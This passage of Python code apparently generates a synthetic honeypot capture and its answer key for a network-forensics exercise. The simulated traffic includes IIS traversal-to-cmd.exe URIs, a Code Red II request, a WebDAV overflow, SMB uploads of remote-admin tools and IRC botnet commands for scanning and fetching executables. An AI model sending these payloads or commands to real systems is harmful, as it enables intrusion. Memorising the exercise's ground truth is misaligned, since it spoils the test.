    "/msadc/..%255c../..%255c../..%255c/..%c1%1c../..%c1%1c../..%c1%1c../winnt/system32/cmd.exe?/c+dir",
    "/scripts/..%c1%1c../winnt/system32/cmd.exe?/c+dir",
    "/scripts/..%c0%2f../winnt/system32/cmd.exe?/c+dir",
    "/scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir",
    "/scripts/..%c1%9c../winnt/system32/cmd.exe?/c+dir",
    "/scripts/..%35%63../winnt/system32/cmd.exe?/c+dir",
    "/scripts/..%25%35%63../winnt/system32/cmd.exe?/c+dir",
    "/scripts/..%252f../winnt/system32/cmd.exe?/c+dir",
    "/_vti_bin/_vti_aut/fp30reg.dll",
    "/iisadmpwd/aexp4b.htr",
    "/scripts/samples/search/qfullhiu.htw",
    "/msadc/msadcs.dll",
    "/NULL.printer",
)

MOZ_HEADERS = (
    "User-Agent: Mozilla/5.0 (Windows; U; Windows NT 5.0; en-US; rv:1.0.2) Gecko/20021216\r\n"
    "Accept: application/x-shockwave-flash,text/xml,application/xml,application/xhtml+xml,"
    "text/html;q=0.9,text/plain;q=0.8,video/x-mng,image/png,image/jpeg,image/gif;q=0.2,"
    "text/css,*/*;q=0.1\r\n"
    "Accept-Language: en-us, en;q=0.50\r\n"
    "Accept-Encoding: gzip, deflate, compress;q=0.9\r\n"
    "Accept-Charset: ISO-8859-1, utf-8;q=0.66, *;q=0.66\r\n"
    "Keep-Alive: 300\r\n"
    "Connection: keep-alive\r\n"
)


def _http_response(
    t: float, status: int, reason: str, body: bytes, ctype: str = "text/html", extra: str = ""
) -> bytes:
    head = (
        f"HTTP/1.1 {status} {reason}\r\nServer: Microsoft-IIS/5.0\r\n"
        f"Date: {formatdate(t, usegmt=True)}\r\n{extra}"
    )
    if status != 304:
        head += f"Content-Type: {ctype}\r\nContent-Length: {len(body)}\r\n"
    return (head + "\r\n").encode() + body


def _http_exchange(
    b: _Builder,
    c: TcpConversation,
    client_ip: str,
    request: bytes,
    response: bytes | None,
    *,
    method: str,
    uri: str,
    status: int | None,
) -> int:
    hs = c.send(CLIENT, request, ack=response is None or len(request) > c.mss)
    if response is not None:
        c.send(SERVER, response)
    b.http.append((client_ip, method, uri, len(request), status, hs[0]))
    return hs[0]


def _http_scanner(b: _Builder, t: float) -> None:
    rng = b.rng
    ip = ACTORS["http_scanner"]
    src = b.host(ip, "http")
    for uri in SCANNER_URIS:
        c = b.conv(src, b.eport(src), b.hp, 80, t, rtt=0.3)
        c.handshake()
        req = f"GET {uri} HTTP/1.0\r\n\r\n".encode()
        answered = rng.random() < 0.35
        resp = _http_response(c.t, 404, "Object Not Found", IIS_404_BODY) if answered else None
        _http_exchange(b, c, ip, req, resp, method="GET", uri=uri, status=404 if answered else None)
        if answered:
            c.close(SERVER)
            b.record("http_scan", c, "closed", "404")
        else:
            c.wait(rng.uniform(8, 15))
            c.reset(CLIENT)
            b.record("http_scan", c, "reset", "unanswered")
        t = c.t + rng.uniform(0.5, 4)


def _http_cmd_overflow(b: _Builder, t: float) -> None:
    rng = b.rng
    ip = ACTORS["http_cmd_overflow"]
    src = b.host(ip, "http")
    c = b.conv(src, b.eport(src), b.hp, 80, t)
    c.handshake()
    body = b"<html><body>Under construction</body></html>\r\n"
    _http_exchange(
        b,
        c,
        ip,
        b"GET / HTTP/1.0\r\n\r\n",
        _http_response(c.t, 200, "OK", body),
        method="GET",
        uri="/",
        status=200,
    )
    c.close(SERVER)
    b.record("http_cmd_overflow", c, "closed", "GET /")
    uri = "/" + "X" * 240 + "&cmd.exe$"
    for i in range(11):
        t = c.t + rng.uniform(20, 90)
        c = b.conv(src, b.eport(src), b.hp, 80, t)
        c.handshake()
        req = f"GET {uri} HTTP/1.1\r\nHost: {HONEYPOT_IP}\r\n\r\n".encode()
        resp = _http_response(c.t, 400, "Bad Request", b"<h1>Bad Request</h1>")
        h = _http_exchange(b, c, ip, req, resp, method="GET", uri=uri, status=400)
        if i == 0:
            b.events["cmd_overflow_first"] = h
        c.close(SERVER)
        b.record("http_cmd_overflow", c, "closed", "cmd.exe overflow")
    b.extra["cmd_overflow_count"] = 11


def _http_codered(b: _Builder, t: float) -> None:
    ip = ACTORS["http_codered"]
    src = b.host(ip, "http")
    c = b.conv(src, b.eport(src), b.hp, 80, t)
    c.handshake()
    uri = (
        "/default.ida?" + "X" * 224 + "%u9090%u6858%ucbd3%u7801%u9090%u6858%ucbd3%u7801"
        "%u9090%u6858%ucbd3%u7801%u9090%u9090%u8190%u00c3%u0003%u8b00%u531b%u53ff%u0078"
        "%u0000%u00=a"
    )
    body = b"\x90" * 64 + b.rng.randbytes(3569 - 64)
    req = (
        f"GET {uri} HTTP/1.0\r\nContent-type: text/xml\r\nAccept: */*\r\n"
        "Content-length: 3569\r\n\r\n"
    ).encode() + body
    h = _http_exchange(b, c, ip, req, None, method="GET", uri=uri, status=None)
    b.events["codered"] = h
    c.wait(30)
    c.reset(CLIENT)
    b.record("http_codered", c, "reset", "Code Red II, unanswered")


def _http_webdav(b: _Builder, t: float) -> None:
    ip = ACTORS["http_webdav"]
    src = b.host(ip, "http")
    c = b.conv(src, b.eport(src), b.hp, 80, t)
    c.handshake()
    xml = (
        b'<?xml version="1.0"?>\r\n<g:searchrequest xmlns:g="DAV:">\r\n'
        b'<g:sql>\r\nSelect "DAV:displayname" from scope()\r\n</g:sql>\r\n</g:searchrequest>\r\n'
    )
    uri = "/" + "A" * 3000
    req = (
        f"SEARCH {uri} HTTP/1.1\r\nHost: {HONEYPOT_IP}\r\nContent-Type: text/xml\r\n"
        f"Content-Length: {len(xml)}\r\n\r\n"
    ).encode() + xml
    h = _http_exchange(b, c, ip, req, None, method="SEARCH", uri=uri, status=None)
    b.events["webdav_search"] = h
    c.reset(SERVER)
    b.record("http_webdav", c, "reset", "WebDAV SEARCH overflow; server aborted")


def _http_browser(b: _Builder, t1: float, t2: float) -> None:
    ip = ACTORS["http_browser"]
    src = b.host(ip, "http")
    page = (
        b"<html><head><title>Under Construction</title></head><body>"
        b'<img src="pagerror.gif"><p>The site you are trying to view does not currently '
        b"have a default page.</p></body></html>\r\n"
    )
    gif = _gif(b.rng, 2800)
    etag = 'ETag: "0aa41b716aebe1:8e3"\r\nLast-Modified: Thu, 03 Jun 1999 23:13:40 GMT\r\n'
    host = f"Host: {HONEYPOT_IP}\r\n"
    for visit, t in enumerate((t1, t2)):
        c = b.conv(src, b.eport(src), b.hp, 80, t, rtt=0.06)
        c.handshake()
        cache = "Cache-Control: max-age=0\r\n" if visit else ""
        req1 = ("GET / HTTP/1.1\r\n" + host + MOZ_HEADERS + cache + "\r\n").encode()
        _http_exchange(
            b,
            c,
            ip,
            req1,
            _http_response(c.t, 200, "OK", page, extra=etag),
            method="GET",
            uri="/",
            status=200,
        )
        if visit == 0:
            req2 = ("GET /pagerror.gif HTTP/1.1\r\n" + host + MOZ_HEADERS + "\r\n").encode()
            resp2 = _http_response(c.t, 200, "OK", gif, ctype="image/gif", extra=etag)
            status = 200
        else:
            req2 = (
                "GET /pagerror.gif HTTP/1.1\r\n"
                + host
                + MOZ_HEADERS
                + "If-Modified-Since: Thu, 03 Jun 1999 23:13:40 GMT\r\n"
                + 'If-None-Match: "0aa41b716aebe1:8e3"\r\n'
                + cache
                + "\r\n"
            ).encode()
            resp2 = _http_response(c.t, 304, "Not Modified", b"", extra=etag)
            status = 304
        c.wait(0.05)
        _http_exchange(b, c, ip, req2, resp2, method="GET", uri="/pagerror.gif", status=status)
        c.wait(15)
        c.close(SERVER)
        b.record("http_browser", c, "closed", f"browser visit {visit + 1}")


def _gif(rng: random.Random, filler: int) -> bytes:
    """A valid 1x1 GIF89a (GIF89a specification): screen descriptor, 2-colour table, a comment
    extension carrying ``filler`` bytes in 255-byte sub-blocks, one image, trailer."""
    out = bytearray(
        b"GIF89a" + struct.pack("<HHBBB", 1, 1, 0x80, 0, 0) + b"\xff\xff\xff\x00\x00\x00"
    )
    text = bytes(rng.choice(b"abcdefghijklmnopqrstuvwxyz ") for _ in range(filler))
    out += b"\x21\xfe"
    for off in range(0, len(text), 255):
        chunk = text[off : off + 255]
        out += bytes([len(chunk)]) + chunk
    out += b"\x00"
    out += b"\x2c" + struct.pack("<HHHHB", 0, 0, 1, 1, 0)
    out += b"\x02\x02\x44\x01\x00"  # LZW min code size 2; one pixel; block terminator
    return bytes(out) + b"\x3b"


def _fin_tails(b: _Builder) -> None:
    """Honeypot FINs to HTTP clients that never acknowledge them (no SYN in the capture)."""
    rng = b.rng
    specs = [
        (
            3806,
            START + 1 * DAY + 3 * HOUR + 43 * MINUTE + 9.551513,
            (167.567, 2.640, 5.253, 31.649, 43.009),
        ),
        (rng.randrange(1025, 5000), START + 2 * DAY + 14 * HOUR + 2 * MINUTE, (3.1, 6.2, 12.4)),
        (
            rng.randrange(1025, 5000),
            START + 4 * DAY + 1 * HOUR + 30 * MINUTE,
            (2.9, 5.9, 11.8, 23.6),
        ),
    ]
    ports = []
    for port, t, backoff in specs:
        src = b.host(b.new_ip(), "fin_tail")
        c = b.conv(src, port, b.hp, 80, t)
        c.established()
        c.fin_unacked(SERVER, backoff)
        b.record("fin_tail", c, "fin_unacked", "honeypot FIN never acknowledged, SYN not captured")
        ports.append(port)
    b.extra["fin_tail_ports"] = tuple(ports)


# ------------------------------------------------------------------------------------------------
# Outbound: DNS and the tool download


def _download(b: _Builder, t: float) -> float:
    rng = b.rng
    resolver = b.host(ACTORS["dns_resolver"], "dns")
    server = b.host(ACTORS["download_server"], "download")
    qname = "dl.example.net"
    sport = rng.randrange(1025, 5000)
    trn = rng.randrange(0, 0xFFFF)
    q = DNS(id=trn, rd=1, qd=DNSQR(qname=qname, qtype="A"))
    h = b.cap.udp(t, b.hp, sport, resolver, 53, q)
    b.events["dns_query"] = h
    a = DNS(
        id=trn,
        qr=1,
        rd=1,
        ra=1,
        qd=DNSQR(qname=qname, qtype="A"),
        an=DNSRR(rrname=qname, type="A", ttl=3600, rdata=server.ip),
    )
    b.cap.udp(t + 0.21, resolver, 53, b.hp, sport, a)
    c = b.conv(b.hp, b.eport(b.hp), server, 80, t + 0.25, rtt=0.12)
    c.handshake()
    tool = _pe_file(rng, 3072, [b"winupd", b"irc5.aol.com", b"PRIVMSG %s :%s"])
    uri = "/tools/winupd.exe"
    req = (
        f"GET {uri} HTTP/1.0\r\nUser-Agent: Mozilla/4.0 (compatible; MSIE 5.01; Windows NT 5.0)"
        f"\r\nHost: {qname}\r\nAccept: */*\r\n\r\n"
    ).encode()
    hs = c.send(CLIENT, req, ack=False)
    b.events["download_request"] = hs[0]
    resp = (
        f"HTTP/1.1 200 OK\r\nDate: {formatdate(c.t, usegmt=True)}\r\nServer: Apache/1.3.27 "
        f"(Unix)\r\nContent-Length: {len(tool)}\r\nConnection: close\r\n"
        f"Content-Type: application/octet-stream\r\n\r\n"
    ).encode() + tool
    hr = c.send(SERVER, resp)
    c.close(SERVER)
    b.record("download", c, "closed", "honeypot downloads a tool")
    b.files.append((uri, "", HONEYPOT_IP, tool, hs[0], hr[-1]))
    b.extra["dns"] = (qname, server.ip)
    return c.t


# ------------------------------------------------------------------------------------------------
# IRC


_SYL = ("ka", "ro", "mi", "te", "su", "na", "lo", "vi", "de", "gu", "ba", "zo", "pe", "hi")
_ISP = (
    "cable.netvista.net",
    "dsl.telenova.de",
    "adsl.spnet.es",
    "dial.kornet.co.kr",
    "ppp.hinet-ip.com.tw",
    "dyn.ocnet.ne.jp",
    "client.wanadsl.fr",
    "home.ntlworld-x.co.uk",
)


def _rand_nick(rng: random.Random, used: set[str]) -> str:
    while True:
        n = "".join(rng.choice("abcdefghijklmnopqrstuvwyz") for _ in range(rng.randrange(6, 10)))
        if n not in used:
            used.add(n)
            return n


def _rand_host(rng: random.Random) -> str:
    a, b_, c, d = (rng.randrange(1, 255) for _ in range(4))
    kind = rng.random()
    if kind < 0.3:
        return f"{rng.choice(_PUBLIC_FIRST_OCTETS)}.{b_}.{c}.{d}"
    if kind < 0.65:
        return f"{a}-{b_}-{c}-{d}.{rng.choice(_ISP)}"
    return f"{rng.choice(_SYL)}{rng.choice(_SYL)}{a}{b_}.{rng.choice(_ISP)}"


def _mixed_case(rng: random.Random, host: str) -> str:
    """The same host name with a different case pattern (servers echo what DNS returns)."""
    out = "".join(ch.upper() if ch.isalpha() and rng.random() < 0.5 else ch for ch in host)
    return out if out != host else host.upper()


def _irc_attempts(b: _Builder, t: float) -> float:
    rng = b.rng
    # 1. refused
    srv = b.host(ACTORS["irc_refused"], "irc_server")
    c = b.conv(b.hp, b.eport(b.hp), srv, 6667, t)
    c.refused(attempts=2, retry_after=0.6)
    b.record("irc", c, "refused", "IRC server refuses")
    # 2. never answers
    srv = b.host(ACTORS["irc_silent"], "irc_server")
    c = b.conv(b.hp, b.eport(b.hp), srv, 6667, c.t + 2.0)
    c.unanswered_syn()
    b.record("irc", c, "unanswered", "IRC server never answers")
    # 3. nickname in use, then timeout
    srv = b.host(ACTORS["irc_nick_in_use"], "irc_server")
    c = b.conv(b.hp, b.eport(b.hp), srv, 6667, c.t + 22.0, rtt=0.15)
    c.handshake()
    c.send(
        SERVER,
        b"NOTICE AUTH :*** Looking up your hostname...\r\nNOTICE AUTH :*** Checking Ident\r\n",
        ack=False,
    )
    c.send(CLIENT, b"NICK eohisou\r\nUSER eohisou 0 0 :eohisou\r\n")
    c.wait(rng.uniform(5, 10))
    c.send(
        SERVER, b"NOTICE AUTH :*** No Ident response\r\nNOTICE AUTH :*** Found your hostname\r\n"
    )
    h = c.send(SERVER, b":irc4.aol.com 433 * eohisou :Nickname is already in use.\r\n")[0]
    b.events["irc_nick_in_use"] = h
    c.wait(rng.uniform(25, 40))
    c.send(
        SERVER,
        f"ERROR :Closing Link: [eohisou@{HONEYPOT_IP}] (Connection Timed Out)\r\n".encode(),
        ack=False,
    )
    c.close(SERVER)
    b.record("irc", c, "closed", "nickname in use, closing link")
    return c.t + rng.uniform(20, 40)


def _irc_main(b: _Builder, t: float, end: float) -> IrcTruth:
    rng = b.rng
    srv = b.host(IRC_SERVER_IP, "irc_server")
    owner_host = f"{ACTORS['irc_owner']}"
    me = f"{IRC_NICK}!{IRC_NICK}@{HONEYPOT_IP}"
    sv = f":{IRC_SERVER_NAME}"
    c = b.conv(b.hp, b.eport(b.hp), srv, 6667, t, rtt=0.11)
    c.handshake()
    server_lines: list[bytes] = []
    client_lines: list[bytes] = []

    def server(lines: list[str | bytes], *, cut: bool = False, gap: float | None = None) -> int:
        data = b"".join((x.encode("latin-1") if isinstance(x, str) else x) + b"\r\n" for x in lines)
        server_lines.extend((x.encode("latin-1") if isinstance(x, str) else x) for x in lines)
        cuts = _irc_cuts(rng, data, c.mss, cut)
        return c.send(SERVER, data, cuts=cuts, gap=gap)[0]

    def client(lines: list[str | bytes]) -> int:
        data = b"".join((x.encode("latin-1") if isinstance(x, str) else x) + b"\r\n" for x in lines)
        client_lines.extend((x.encode("latin-1") if isinstance(x, str) else x) for x in lines)
        return c.send(CLIENT, data, ack=True)[0]

    server(["NOTICE AUTH :*** Looking up your hostname...", "NOTICE AUTH :*** Checking Ident"])
    client(["PASS b0tp4ss", f"NICK {IRC_NICK}", f"USER {IRC_NICK} 0 0 :{IRC_NICK}"])
    c.wait(rng.uniform(3, 8))
    welcome = [
        "NOTICE AUTH :*** No Ident response",
        "NOTICE AUTH :*** Found your hostname",
        f"{sv} 001 {IRC_NICK} :Welcome to the Internet Relay Network {me}",
        f"{sv} 002 {IRC_NICK} :Your host is {IRC_SERVER_NAME}, running version 2.8/hybrid-6.3.1",
        f"{sv} 003 {IRC_NICK} :This server was created Fri Jan 10 2003 at 18:04:32 EST",
        f"{sv} 004 {IRC_NICK} {IRC_SERVER_NAME} 2.8/hybrid-6.3.1 oOiwszcrkfydnxb biklmnopstve",
        f"{sv} 005 {IRC_NICK} WALLCHOPS PREFIX=(ov)@+ CHANTYPES=#& MAXCHANNELS=25 MAXBANS=25 "
        "NICKLEN=9 TOPICLEN=120 KICKLEN=120 NETWORK=AOL CHANMODES=be,k,l,imnpst "
        ":are supported by this server",
    ]
    welcome += [f"{sv} {num} {IRC_NICK} {text}" for num, text in LUSERS]
    welcome += [f"{sv} 375 {IRC_NICK} :- {IRC_SERVER_NAME} Message of the Day - "]
    welcome += [
        f"{sv} 372 {IRC_NICK} :- {line}"
        for line in (
            "Welcome. Abuse of this server is not tolerated.",
            "Bots and clones are not welcome.",
            "Have a nice stay.",
        )
    ]
    welcome += [f"{sv} 376 {IRC_NICK} :End of /MOTD command."]
    server(welcome)
    h_join_cmd = client([f"JOIN {IRC_CHANNEL} {IRC_KEY}"])
    b.events["irc_join_command"] = h_join_cmd

    # NAMES at join time
    used_nicks: set[str] = {IRC_NICK, IRC_OWNER}
    host_of: dict[str, tuple[str, str]] = {}  # nick -> (ident, host)
    names_count = max(24, b.irc_lines // 6)
    present: list[str] = []
    for _ in range(names_count - 2):
        n = _rand_nick(rng, used_nicks)
        host_of[n] = (n[:8], _rand_host(rng))
        present.append(n)
    tokens = [f"@{IRC_OWNER}", IRC_NICK]
    for i, n in enumerate(present):
        tokens.append(("@" if i < 2 else "+" if i < 7 else "") + n)
    rng.shuffle(tokens)
    names_lines: list[str] = []
    prefix = f"{sv} 353 {IRC_NICK} @ {IRC_CHANNEL} :"
    cur: list[str] = []
    for tok in tokens:
        if len(prefix) + len(" ".join([*cur, tok])) > 480:
            names_lines.append(prefix + " ".join(cur) + " ")
            cur = []
        cur.append(tok)
    names_lines.append(prefix + " ".join(cur) + " ")
    join_burst = [
        f":{me} JOIN :{IRC_CHANNEL}",
        f"{sv} 332 {IRC_NICK} {IRC_CHANNEL} :{IRC_TOPIC}",
        f"{sv} 333 {IRC_NICK} {IRC_CHANNEL} {IRC_OWNER} 1046650000",
        *names_lines,
        f"{sv} 366 {IRC_NICK} {IRC_CHANNEL} :End of /NAMES list.",
    ]
    h = server(join_burst)
    b.events["irc_joined"] = h

    # The channel over the rest of the capture.
    host_pool: list[str] = [h for _i, h in host_of.values()]
    n_events = b.irc_lines
    span_start, span_end = c.t + 30, end
    times = sorted(rng.uniform(span_start, span_end) for _ in range(n_events))
    specials = {
        n_events // 9: "cmd_advscan",
        n_events // 5: "dcc",
        n_events // 4: "cmd_download",
        n_events // 3: "kick",
        n_events // 2: "odd_join",
        (2 * n_events) // 3: "part",
        (3 * n_events) // 4: "cmd_sysinfo",
    }
    bot_commands: list[str] = []
    pings = kicks = parts = nick_changes = 0
    dcc_offer = ""
    pending: list[str | bytes] = []
    pending_t = times[0]
    idx_since_ping = 0

    def flush(now: float) -> None:
        nonlocal pending
        if pending:
            c.at(now)
            server(pending, cut=rng.random() < 0.04)
            pending = []

    for i, now in enumerate(times):
        if now - pending_t > 2.0 or len(pending) >= 5:
            flush(pending_t)
        pending_t = now
        # A JOIN or a QUIT.
        if present and (rng.random() < 0.5 or len(present) > names_count * 1.5):
            nick = present.pop(rng.randrange(len(present)))
            ident, host = host_of[nick]
            if rng.random() < 0.04:  # the same host echoed with another case pattern
                host = _mixed_case(rng, host)
            reason = rng.choice(
                (
                    "Ping timeout: 180 seconds",
                    "Read error: Connection reset by peer",
                    "Quit: ",
                    "Excess Flood",
                    "Remote closed the connection",
                )
            )
            pending.append(f":{nick}!{ident}@{host} QUIT :{reason}")
        else:
            nick = _rand_nick(rng, used_nicks)
            r = rng.random()
            if r < 0.35 and host_pool:
                host = rng.choice(host_pool)  # a host seen before (reconnecting bot)
                if rng.random() < 0.1:
                    host = _mixed_case(rng, host)
            else:
                host = _rand_host(rng)
                host_pool.append(host)
            host_of[nick] = (nick[:8], host)
            present.append(nick)
            pending.append(f":{nick}!{nick[:8]}@{host} JOIN :{IRC_CHANNEL}")
        idx_since_ping += 1
        # Occasional nick change.
        if present and rng.random() < 0.01:
            old = rng.choice(present)
            new = _rand_nick(rng, used_nicks)
            ident, host = host_of.pop(old)
            host_of[new] = (ident, host)
            present[present.index(old)] = new
            pending.append(f":{old}!{ident}@{host} NICK :{new}")
            nick_changes += 1
        kind = specials.get(i)
        owner = f":{IRC_OWNER}!~{IRC_OWNER}@{owner_host}"
        if kind == "cmd_advscan":
            text = ".advscan lsass 200 5 0 -r"
            pending.append(f"{owner} PRIVMSG {IRC_CHANNEL} :{text}")
            bot_commands.append(text)
            flush(now)
            client(
                [
                    f"PRIVMSG {IRC_CHANNEL} :[SCAN]: Random Port Scan started on "
                    "0.0.0.0:445 with a delay of 5 seconds for 0 minutes using 200 threads."
                ]
            )
        elif kind == "cmd_download":
            text = f"!download http://{ACTORS['download_server']}/x.exe c:\\x.exe 1"
            pending.append(f"{owner} PRIVMSG {IRC_NICK} :{text}")
            bot_commands.append(text)
        elif kind == "cmd_sysinfo":
            text = ".sysinfo"
            pending.append(f"{owner} PRIVMSG {IRC_CHANNEL} :{text}")
            bot_commands.append(text)
            flush(now)
            client(
                [
                    f"PRIVMSG {IRC_CHANNEL} :[SYSINFO]: [CPU]: 1700MHz. [RAM]: 261616KB total. "
                    "[OS]: Windows 2000 (5.0, Build 2195)."
                ]
            )
        elif kind == "dcc":
            dcc_offer = (
                f"\x01DCC SEND update.exe {_ip_int(ACTORS['download_server'])} 4455 40960\x01"
            )
            pending.append(f":warez!~w@{rng.choice(host_pool)} PRIVMSG {IRC_NICK} :{dcc_offer}")
        elif kind == "kick" and present:
            victim = present.pop(rng.randrange(len(present)))
            pending.append(f"{owner} KICK {IRC_CHANNEL} {victim} :clone")
            kicks += 1
        elif kind == "part" and present:
            leaver = present.pop(rng.randrange(len(present)))
            ident, host = host_of[leaver]
            pending.append(f":{leaver}!{ident}@{host} PART {IRC_CHANNEL}")
            parts += 1
        elif kind == "odd_join":
            text = ".join " + IRC_ODD_CHANNEL.decode("latin-1")
            pending.append(f"{owner} PRIVMSG {IRC_CHANNEL} :{text}")
            bot_commands.append(text)
            flush(now)
            client([b"JOIN " + IRC_ODD_CHANNEL])
            c.wait(0.2)
            pending.extend(
                [
                    f":{me} JOIN :".encode() + IRC_ODD_CHANNEL,
                    f"{sv} 353 {IRC_NICK} = ".encode()
                    + IRC_ODD_CHANNEL
                    + f" :{IRC_NICK} @{IRC_OWNER} ".encode(),
                    f"{sv} 366 {IRC_NICK} ".encode() + IRC_ODD_CHANNEL + b" :End of /NAMES list.",
                ]
            )
            flush(c.t)
        if idx_since_ping >= 40:
            flush(now)
            c.at(now + 1.0)
            server([f"PING :{IRC_SERVER_NAME}"])
            client([f"PONG :{IRC_SERVER_NAME}"])
            pings += 1
            idx_since_ping = 0
    flush(pending_t)
    b.record("irc", c, "open", "botnet channel session, still open at the end of the capture")
    b.extra["irc_end"] = c.t
    b.extra["irc_conv"] = c

    # Census, computed from the lines we generated.
    joins = [ln for ln in server_lines if _cmd(ln) == b"JOIN"]
    quits = [ln for ln in server_lines if _cmd(ln) == b"QUIT"]
    for ln in server_lines:  # the write-up greps for the words: keep them out of other lines
        if (b"JOIN" in ln or b"QUIT" in ln) and _cmd(ln) not in (b"JOIN", b"QUIT"):
            raise AssertionError(f"stray JOIN/QUIT in {ln!r}")
    jh = {_host(ln).lower() for ln in joins}
    qh = {_host(ln).lower() for ln in quits}
    union_cs = {_host(ln) for ln in joins + quits}
    lusers = {num: text for num, text in LUSERS}
    users = int(lusers[266].split("users:")[1].split()[0])
    names = tuple(t for line in names_lines for t in line.split(" :", 1)[1].split())
    return IrcTruth(
        server_ip=IRC_SERVER_IP,
        server_name=IRC_SERVER_NAME,
        nick=IRC_NICK,
        channel=IRC_CHANNEL,
        key=IRC_KEY,
        topic=IRC_TOPIC,
        refused_server=ACTORS["irc_refused"],
        silent_server=ACTORS["irc_silent"],
        nick_in_use_server=ACTORS["irc_nick_in_use"],
        nick_in_use_nick="eohisou",
        lusers=LUSERS,
        users_reported=users,
        names=names,
        names_count=len(set(names)),
        join_lines=len(joins),
        quit_lines=len(quits),
        join_hosts=len(jh),
        quit_hosts=len(qh),
        union_hosts=len(jh | qh),
        union_hosts_case_sensitive=len(union_cs),
        bandwidth_kbps=len(jh | qh) * KBPS_PER_BOT,
        nick_changes=nick_changes,
        pings=pings,
        kicks=kicks,
        parts=parts,
        split_lines=(),
        split_frames=(),
        server_lines=tuple(server_lines),
        client_lines=tuple(client_lines),
        bot_commands=tuple(bot_commands),
        dcc_offer=dcc_offer,
        odd_channel=IRC_ODD_CHANNEL,
        server_stream=bytes(c.stats.data[SERVER]),
        client_stream=bytes(c.stats.data[CLIENT]),
        command_counts=tuple(
            sorted(Counter(_cmd(ln).decode("latin-1") for ln in server_lines).items())
        ),
        client_command_counts=tuple(
            sorted(Counter(ln.split(b" ", 1)[0].decode() for ln in client_lines).items())
        ),
    )


def _irc_cuts(rng: random.Random, data: bytes, mss: int, cut: bool) -> list[int]:
    """Segment boundaries for a burst of IRC lines: at most ``mss`` apart, plus (with ``cut``)
    one random cut inside a line.

    tshark's IRC dissector parses each segment alone, so a piece that ends inside a line's
    prefix or command, or a continuation that starts with ":" or a space, is reported as
    malformed. The brief asks for a capture tshark decodes without errors, so boundaries only
    fall between lines or inside the parameters, between two ordinary characters. Tools must
    still reassemble the stream to see the cut lines whole.
    """
    lines = []  # (start, first allowed cut)
    pos = 0
    while pos < len(data):
        nl = data.find(b"\n", pos)
        end = len(data) if nl < 0 else nl + 1
        first = data.find(b" ", pos, end)
        second = data.find(b" ", first + 1, end) if first >= 0 else -1
        lines.append((pos, end, (second if second >= 0 else end) + 1))
        pos = end

    def ok(x: int) -> bool:
        for a, e, lo in lines:
            if x == a:
                return True
            if a < x < e:
                return x > lo and data[x] not in b" :\r\n" and data[x - 1] not in b" :"
        return True

    extra: int | None = None
    if cut:
        a, e, lo = rng.choice(lines)
        options = [x for x in range(lo, e) if ok(x) and x != a]
        if options:
            extra = rng.choice(options)
    bounds: list[int] = []
    start = 0
    while start < len(data):
        end = min(start + mss, len(data))
        if extra is not None and start < extra < end:
            end = extra
        while end > start + 1 and not ok(end):
            end -= 1
        bounds.append(end)
        start = end
    return bounds[:-1]


def _cmd(line: bytes) -> bytes:
    parts = line.split(b" ")
    return parts[1] if line.startswith(b":") and len(parts) > 1 else parts[0]


def _host(line: bytes) -> str:
    prefix = line.split(b" ", 1)[0]
    return prefix.split(b"@", 1)[1].decode("latin-1")


def _ip_int(ip: str) -> int:
    a, b_, c, d = (int(x) for x in ip.split("."))
    return (a << 24) | (b_ << 16) | (c << 8) | d


# ------------------------------------------------------------------------------------------------
# Assembly


def build(path: Path, *, irc_lines: int = 2000, seed: int = 27) -> GroundTruth:
    """Write the scenario capture to ``path`` and return its ground truth."""
    rng = random.Random(seed)
    b = _Builder(rng, irc_lines)

    # Background over all five days.
    _slammer(b)
    _nbns(b)
    _smb139(b)
    _probes(b)
    _hackatack(b)
    _fin_tails(b)

    # Day 1 (2003-03-01): the web scanner.
    _http_scanner(b, START + 14 * HOUR + 12 * MINUTE)
    # Day 2: first 445 attackers, cmd.exe overflows, Code Red II, the browser.
    _http_cmd_overflow(b, START + DAY + 2 * HOUR + 51 * MINUTE)
    _smb445_attack(b, ACTORS["smb445_enum_a"], START + DAY + 5 * HOUR + 10 * MINUTE, uploads=[])
    _http_codered(b, START + DAY + 10 * HOUR + 20 * MINUTE)
    _smb445_attack(
        b, ACTORS["smb445_logon_failure"], START + DAY + 12 * HOUR, uploads=[], admin="failure"
    )
    _http_browser(b, START + DAY + 16 * HOUR + 5 * MINUTE, START + 2 * DAY + 9 * HOUR + 12 * MINUTE)
    _smb445_attack(b, ACTORS["smb445_enum_b"], START + 2 * DAY + 2 * HOUR + 30 * MINUTE, uploads=[])
    # Radmin is tried before it is installed.
    failed = _radmin_failed(
        b,
        [
            START + 2 * DAY + 8 * HOUR,
            START + 2 * DAY + 11 * HOUR,
            START + 2 * DAY + 6 * HOUR + 40 * MINUTE,
            START + 2 * DAY + 15 * HOUR,
            START + 2 * DAY + 17 * HOUR + 55 * MINUTE,
        ],
    )
    _smb445_attack(b, ACTORS["smb445_enum_c"], START + 2 * DAY + 13 * HOUR, uploads=[])
    # Day 3, 18:31: the upload, 18:44: radmin answers.
    raddrv = _pe_file(
        rng,
        6144,
        [b"radmm", b"GetRADSecurity", b"SYSTEM\\RAdmin\\", b"Unloading Raddrv", b"RAdmin Driver"],
    )
    r_server = _pe_file(rng, 9216, [b"Radmin Server", b"r_server.exe", b"SYSTEM\\RAdmin\\v2.0\\"])
    _smb445_attack(
        b,
        ACTORS["smb445_uploader"],
        START + 2 * DAY + 18 * HOUR + 31 * MINUTE,
        uploads=[
            ("\\WINNT\\System32\\raddrv.dll", "raddrv", raddrv),
            ("\\WINNT\\System32\\r_server.exe", "r_server", r_server),
        ],
    )
    _radmin_session(b, START + 2 * DAY + 18 * HOUR + 44 * MINUTE + 12.0)
    # The operator fetches a tool; the bot connects to IRC.
    t = _download(b, START + 2 * DAY + 18 * HOUR + 52 * MINUTE)
    t = _irc_attempts(b, t + 60)
    irc = _irc_main(b, t, START + 5 * DAY - 10 * MINUTE)
    # Day 4: a second uploader (psexec service) and more enumeration; day 5: WebDAV.
    psexesvc = _pe_file(rng, 5120, [b"PSEXESVC", b"\\\\.\\pipe\\psexecsvc"])
    _smb445_attack(
        b,
        ACTORS["smb445_psexec"],
        START + 3 * DAY + 7 * HOUR + 40 * MINUTE,
        uploads=[("\\PSEXESVC.EXE", "psexesvc", psexesvc)],
        share="\\\\PC0191\\ADMIN$",
    )
    _smb445_attack(b, ACTORS["smb445_enum_d"], START + 3 * DAY + 15 * HOUR, uploads=[])
    _smb445_attack(b, ACTORS["smb445_enum_e"], START + 4 * DAY + 4 * HOUR + 5 * MINUTE, uploads=[])
    _http_webdav(b, START + 4 * DAY + 20 * HOUR)

    written = b.cap.write(Path(path))
